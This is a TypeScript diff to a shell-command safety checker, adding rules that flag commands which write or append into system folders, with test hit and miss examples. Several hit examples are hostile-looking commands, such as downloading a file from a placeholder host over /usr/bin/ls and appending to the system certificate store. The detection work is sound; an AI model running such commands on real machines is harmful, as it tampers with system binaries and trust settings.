@@ -1,6 +1,7 @@
-import type { Rule, SimpleCommand } from "../../model.ts";
-import { optionValues } from "../../programs/arguments.ts";
-import { holdsSystem, isDisk, locate, normalizePath } from "../../programs/paths.ts";
+import { once, type Rule, type SimpleCommand } from "../../model.ts";
+import { operands, optionValues } from "../../programs/arguments.ts";
+import { WRITERS, writtenPaths } from "../../programs/effects.ts";
+import { asFolder, holdsSystem, isDisk, locate, normalizePath } from "../../programs/paths.ts";
 import { rule } from "../rule.ts";
 
 /** Long options that name a file or folder to write, in any program. */
@@ -66,8 +67,99 @@ function writesSystem(command: SimpleCommand): boolean {
 
 const PLACES = /^\/(?:etc|boot|s?bin|lib|usr|sys|proc|var\/(?:lib|spool|www))/;
 
-/** Files that programs write where an option says. */
+/** `cp x.conf x.conf.bak`: a copy beside the file. */
+function keepsCopy(command: SimpleCommand): boolean {
+  const [from = "", to = "", ...more] = operands(command);
+  return command.name === "cp" && more.length === 0 && to.length > from.length + 1 &&
+    to.startsWith(from) && COPY_TAIL.test(to.slice(from.length));
+}
+
+const COPY_TAIL = /^[.~_-][^/]*$/;
+
+const PROTECTED = [
+  "/etc/",
+  "/boot/",
+  "/bin/",
+  "/sbin/",
+  "/lib",
+  "/usr/",
+  "/var/lib/",
+  "/var/spool/",
+  "/var/www/",
+  "/sys/",
+  "/proc/",
+  "/dev/mem",
+];
+
+/** Whether a path is below a folder that packages own. */
+const isProtected = (path: string): boolean => PROTECTED.some((start) => path.startsWith(start));
+
+/** Files that programs write into the system. */
 export const OUTPUT_RULES: readonly Rule[] = [
+  rule({
+    id: "filesystem.write_system_file",
+    title: "Write into a system folder",
+    commands: WRITERS,
+    match: (command) =>
+      !keepsCopy(command) &&
+      once(command, writtenPaths).some((path) =>
+        isProtected(asFolder(locate(command.cwd, path))) &&
+        holdsSystem(path, command.cwd)
+      ),
+    weight: [4, 3],
+    threat: "system_tampering",
+    explanation: "It writes into a folder that belongs to the system.",
+    safer: "Keep a copy of what was there, or use the package manager.",
+    hits: [
+      "install evil /usr/bin/",
+      "wget -O /usr/bin/ls http://x.example",
+      "curl -sSLo /usr/local/bin/kubectl https://dl.k8s.io/kubectl",
+      "cd /etc/nginx && wget https://x.example/nginx.conf",
+      "cp -t /usr/local/bin app",
+      "go build -o /usr/bin/app ./cmd/app",
+      "sed -i.bak 's/a/b/' /etc/nginx/nginx.conf",
+      "scp nginx.conf web1:/etc/nginx/nginx.conf",
+      "7z x -y x.7z -o/usr/local",
+      "sort -o /etc/hosts names.txt",
+      "pip install --target=/usr/lib/python3/dist-packages x",
+      "gpg --dearmor -o /usr/share/keyrings/x.gpg x.asc",
+    ],
+    misses: [
+      "cp notes.md docs/",
+      "wget -O page.html https://example.com",
+      "curl -O https://example.com/x.tgz",
+      "go build -o bin/app ./cmd/app",
+      "sed -n 1,5p /etc/hosts",
+      "gzip -l /usr/share/doc/x.gz",
+      "rsync -a /etc/nginx/ backup/",
+      "tar -tf /usr/share/x.tar",
+    ],
+  }),
+  rule({
+    id: "filesystem.append_system_file",
+    title: "Append to a system file",
+    commands: null,
+    also: ["redirected"],
+    match: ({ redirections, cwd }) =>
+      redirections.some(({ operator, target }) =>
+        operator.endsWith(">>") &&
+        PROTECTED.some((start) =>
+          !start.startsWith("/var/") && asFolder(locate(cwd, target)).startsWith(start)
+        ) &&
+        holdsSystem(target, cwd)
+      ),
+    evenRehearsed: true,
+    weight: [4, 2],
+    threat: "system_tampering",
+    explanation: "It appends to a file that belongs to the system.",
+    safer: "Change the file through configuration that is reviewed.",
+    hits: [
+      "echo '10.0.0.5 db' >> /etc/hosts",
+      "echo net.core.somaxconn=1024 >> /etc/sysctl.d/99-app.conf",
+      "cat ca.pem >> /etc/ssl/certs/ca-certificates.crt",
+    ],
+    misses: ["echo done >> out.log", "date >> /var/log/app.log", "cat /etc/hosts >> notes.txt"],
+  }),
   rule({
     id: "filesystem.output_option",
     title: "Write output into a system folder",
